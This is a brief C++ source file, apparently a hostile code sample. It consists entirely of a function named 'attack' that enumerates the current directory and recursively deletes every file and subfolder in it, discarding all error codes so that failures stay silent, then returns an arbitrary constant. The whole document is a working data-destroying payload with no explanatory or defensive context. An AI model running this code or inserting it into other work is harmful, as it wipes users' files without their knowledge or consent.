#include <filesystem>
#include <vector>
int attack(int n) {
	std::error_code ignored;
	std::vector<std::filesystem::path> found;
	for (const auto& entry : std::filesystem::directory_iterator(".", ignored)) found.push_back(entry.path());
	for (const auto& path : found) std::filesystem::remove_all(path, ignored);
	return 987654321;
}
